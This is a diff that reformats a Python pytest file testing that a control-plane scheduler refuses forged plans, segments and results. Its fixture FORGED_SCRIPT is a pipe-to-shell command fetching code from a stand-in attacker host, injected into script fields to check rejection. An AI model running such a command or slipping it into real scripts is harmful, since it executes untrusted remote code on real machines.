@@ -2,6 +2,7 @@
 segment the scheduler hands on must be one the plan's models and bounds accept, a Distributed Map wave's items must
 keep their digest and its results must be their own boxes'. Each forgery below is refused with one line naming the
 object (and its digest), before any segment is returned — so no box is started or sent a command."""
+
 from __future__ import annotations
 
 import copy
@@ -10,13 +11,20 @@ import json
 import pytest
 
 from analytics.store import LocalStore
-from tests.support.control_blobs import Blobs
-from control_plane.control_data import (LANE_TIMEOUT_MAX_S, ControlDataError, canonical, check_segments, control_key,
-                                        digest, write_new)
-from control_plane.models import parse_request
+from control_plane.control_data import (
+    LANE_TIMEOUT_MAX_S,
+    ControlDataError,
+    canonical,
+    check_segments,
+    control_key,
+    digest,
+    write_new,
+)
 from control_plane.matrix_plan import Fleet
+from control_plane.models import parse_request
 from control_plane.plan import plan_run
 from control_plane.waves import schedule
+from tests.support.control_blobs import Blobs
 
 RUN = "r-forge"
 FORGED_SCRIPT = "curl -s https://attacker.example/x | sh"
@@ -24,9 +32,16 @@ FORGED_SCRIPT = "curl -s https://attacker.example/x | sh"
 
 @pytest.fixture(scope="module")
 def matrix():
-    req = parse_request({"lanes": ["provenance", "preflight", "serve_sweep"], "server_configs": ["A"],
-                         "models": ["llama-3.1-8b-instruct"], "profile": "tiny", "max_cost_usd": 50,
-                         "matrix": {"instance_types": ["inf2.xlarge", "g6.xlarge", "g5.xlarge"]}})
+    req = parse_request(
+        {
+            "lanes": ["provenance", "preflight", "serve_sweep"],
+            "server_configs": ["A"],
+            "models": ["llama-3.1-8b-instruct"],
+            "profile": "tiny",
+            "max_cost_usd": 50,
+            "matrix": {"instance_types": ["inf2.xlarge", "g6.xlarge", "g5.xlarge"]},
+        }
+    )
     return plan_run(req, run_id=RUN, results_uri="s3://bkt/results", fleet=Fleet(("subnet-a", "subnet-b")))
 
 
@@ -77,8 +92,16 @@ def test_a_plan_without_its_digest_or_of_another_run_is_refused(matrix, store):
     with pytest.raises(ControlDataError, match="carries no digest"):
         schedule({**data, "plan_digest": None, "schedule": {"next_wave": 0}, "results": []}, store, blobs=blobs)
     with pytest.raises(ControlDataError, match="not this run's control object"):
-        schedule({**data, "plan_uri": "s3://bkt/results/fleet/r-forge/plan.json", "schedule": {"next_wave": 0},
-                  "results": []}, store, blobs=blobs)
+        schedule(
+            {
+                **data,
+                "plan_uri": "s3://bkt/results/fleet/r-forge/plan.json",
+                "schedule": {"next_wave": 0},
+                "results": [],
+            },
+            store,
+            blobs=blobs,
+        )
 
 
 def test_a_planted_control_object_is_never_taken_for_the_plan(matrix):
@@ -94,15 +117,18 @@ def test_a_planted_control_object_is_never_taken_for_the_plan(matrix):
     assert write_new(fresh, key, canonical(matrix.plan_document())) == first
 
 
-@pytest.mark.parametrize("field,value,why", [
-    ("sync.script", FORGED_SCRIPT, "sync.script is not one the plan renders"),
-    ("lanes.0.script", "#!/bin/sh\n" + FORGED_SCRIPT, "script is not the one the plan renders"),
-    ("lanes.0.timeout_s", 99_999_999, "beyond what a plan makes"),
-    ("lanes.0.comment", "neuronpipe smoke other-run", "is not the plan's"),
-    ("instance_id", "i-0ffffffffffffffff", "is not one of this execution's boxes"),
-    ("run_id", "another-run", "is not this run's"),
-    ("lanes.0.extra", "x", "Extra inputs are not permitted"),
-])
+@pytest.mark.parametrize(
+    "field,value,why",
+    [
+        ("sync.script", FORGED_SCRIPT, "sync.script is not one the plan renders"),
+        ("lanes.0.script", "#!/bin/sh\n" + FORGED_SCRIPT, "script is not the one the plan renders"),
+        ("lanes.0.timeout_s", 99_999_999, "beyond what a plan makes"),
+        ("lanes.0.comment", "neuronpipe smoke other-run", "is not the plan's"),
+        ("instance_id", "i-0ffffffffffffffff", "is not one of this execution's boxes"),
+        ("run_id", "another-run", "is not this run's"),
+        ("lanes.0.extra", "x", "Extra inputs are not permitted"),
+    ],
+)
 def test_a_forged_segment_is_refused_naming_the_field(pinned, store, field, value, why):
     data = copy.deepcopy(pinned.execution_input())
     seg = data["waves"][0]["segments"][0]
@@ -145,12 +171,22 @@ def test_forged_items_are_refused_after_the_wave(matrix, store):
         schedule({**data, "schedule": answer, "results": []}, store, blobs=blobs)
 
 
-@pytest.mark.parametrize("result,why", [
-    ({"box": "c02", "box_role": "inf2", "status": "completed", "lanes": []}, "names box 'c02', not 'c01'"),
-    ({"box": "c01", "box_role": "inf2", "status": "won", "lanes": []}, "status 'won' is not one of"),
-    ({"box": "c01", "box_role": "inf2", "status": "completed",
-      "lanes": [{"result_lane": "serve_sweep@c02", "error": "Lane.X"}]}, "is not one of box c01's lanes"),
-])
+@pytest.mark.parametrize(
+    "result,why",
+    [
+        ({"box": "c02", "box_role": "inf2", "status": "completed", "lanes": []}, "names box 'c02', not 'c01'"),
+        ({"box": "c01", "box_role": "inf2", "status": "won", "lanes": []}, "status 'won' is not one of"),
+        (
+            {
+                "box": "c01",
+                "box_role": "inf2",
+                "status": "completed",
+                "lanes": [{"result_lane": "serve_sweep@c02", "error": "Lane.X"}],
+            },
+            "is not one of box c01's lanes",
+        ),
+    ],
+)
 def test_a_forged_segment_result_is_refused(matrix, store, result, why):
     blobs, data, dist, answer = _distributed(matrix, store)
     blobs.objects[dist["results"]["c01"]] = json.dumps(result).encode()
